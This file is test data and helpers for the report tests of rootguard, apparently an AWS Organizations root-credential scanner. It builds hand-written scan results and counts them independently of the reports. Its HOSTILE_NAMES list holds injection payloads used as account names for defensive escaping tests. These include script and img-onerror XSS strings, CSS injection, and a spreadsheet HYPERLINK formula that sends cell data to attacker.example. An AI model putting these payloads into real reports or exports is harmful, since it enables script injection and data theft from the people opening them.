"""Data and helpers of the report tests: results written by hand for the hostile and edge cases, and counts
computed from a results document independently of rootguard.reports (so a wrong count in the reports cannot
hide in both). A module of its own, not conftest: test files import it by name, and `conftest` is a name
every test folder's conftest.py shares."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from rootguard.models import NotEvaluatedReason, ResourceKind, Result, ResultResource, Status

RUN_AT = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
MEMBER_CHECK = "iam_member_root_credentials_absent"
OUT_OF_SCOPE = {"MANAGEMENT_ACCOUNT", "EXCLUDED", "SUSPENDED", "PENDING_CLOSURE", "DELEGATED_ADMIN_SCAN"}
ORG = "o-hostile0001"
MGMT = "111122223333"


@dataclass
class DemoScan:
    output_dir: Path
    doc: dict[str, Any]

    @property
    def results(self) -> list[Result]:
        return [Result.model_validate(r) for r in self.doc["results"]]

    @property
    def meta(self) -> dict[str, Any]:
        return self.doc["rootguard"]


def expected_counts(doc: dict[str, Any]) -> dict[str, int]:
    """The numbers a report must show, straight from a results document's dicts."""
    members = [
        r for r in doc["results"] if r["check_id"] == MEMBER_CHECK and r["resource"]["kind"] == "ACCOUNT"
    ]
    others = [r for r in doc["results"] if r["check_id"] != MEMBER_CHECK]
    ne = [r for r in members if r["status"] == "NOT_EVALUATED"]
    return {
        "members": len(members),
        "members-clean": sum(r["status"] == "PASS" for r in members),
        "members-with-root-credentials": sum(r["status"] == "FAIL" for r in members),
        "members-not-evaluated": sum(r["reason"] not in OUT_OF_SCOPE for r in ne),
        "members-out-of-scope": sum(r["reason"] in OUT_OF_SCOPE for r in ne),
        "org-checks-failed": sum(r["status"] == "FAIL" for r in others),
    }


def member(
    account: str,
    name: str,
    status: Status,
    *,
    reason: NotEvaluatedReason | None = None,
    kinds: tuple[str, ...] = (),
    joined: str = "INVITED",
    message: str | None = None,
) -> Result:
    counts = {
        "password": int("password" in kinds),
        "active_access_keys": int("active access keys" in kinds),
        "inactive_access_keys": int("inactive access keys" in kinds),
        "mfa_devices": int("MFA devices" in kinds),
        "signing_certificates": int("signing certificates" in kinds),
    }
    details: dict[str, Any] = {
        "account_name": name,
        "joined_method": joined,
        "joined_timestamp": "2019-05-06T07:08:09+00:00",
        "ou_path": ["r-ab12", "ou-ab12-11111111"],
    }
    if status is not Status.NOT_EVALUATED:
        details.update({"kinds": list(kinds), "counts": counts})
    return Result(
        check_id=MEMBER_CHECK,
        status=status,
        reason=reason,
        resource=ResultResource(
            kind=ResourceKind.ACCOUNT,
            id=account,
            arn=f"arn:aws:organizations::{MGMT}:account/{ORG}/{account}",
            name=name,
        ),
        message=message or f"The root user of account {account} ({name}) was looked at.",
        details=details,
    )


def org_result(
    check_id: str, status: Status, message: str, reason: NotEvaluatedReason | None = None
) -> Result:
    return Result(
        check_id=check_id,
        status=status,
        reason=reason,
        resource=ResultResource(
            kind=ResourceKind.ORGANIZATION, id=ORG, arn=f"arn:aws:organizations::{MGMT}:organization/{ORG}"
        ),
        message=message,
        details={"organization_id": ORG},
    )


# Names an attacker who controls a member account (or its name) could choose; AWS allows most printable text.
HOSTILE_NAMES = [
    "<script>alert('name')</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+SUM(1,1)",
    "-2+3",
    "@cmd",
    "'quoted",
    "\tleading tab",
    'line\nbreak, comma; and "quotes"',
    "</style><style>body{display:none}</style>",
    "]]><!-- --> & &amp; \u202eevil",
    "Zürich-prod \U0001f512",
]


def hostile_results() -> list[Result]:
    out = [
        org_result("organizations_iam_trusted_access_enabled", Status.PASS, "Trusted access is <b>on</b>."),
        org_result(
            "organizations_scps_allow_root_sessions",
            Status.FAIL,
            "SCP \"<script>alert('scp')</script>\" denies root sessions.",
        ),
    ]
    for i, name in enumerate(HOSTILE_NAMES):
        account = f"{300000000000 + i:012d}"
        if i % 3 == 0:
            out.append(
                member(account, name, Status.FAIL, kinds=("password", "active access keys"), message=name)
            )
        elif i % 3 == 1:
            out.append(
                member(
                    account, name, Status.NOT_EVALUATED, reason=NotEvaluatedReason.SCP_DENIED, message=name
                )
            )
        else:
            out.append(member(account, name, Status.PASS, message=name))
    return out


def results_document(
    results: list[Result], run_at: datetime = RUN_AT, organization: str = ORG
) -> dict[str, Any]:
    return {
        "rootguard": {
            "version": "0.1.0",
            "run_at": run_at.isoformat(),
            "caller": f"arn:aws:iam::{MGMT}:role/rootguard-scanner",
            "organization": organization,
            "checks": sorted({r.check_id for r in results}),
        },
        "results": [r.model_dump(mode="json") for r in results],
    }


def write_results(path: Path, results: list[Result], **kwargs: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(results_document(results, **kwargs)), encoding="utf-8")
    return path
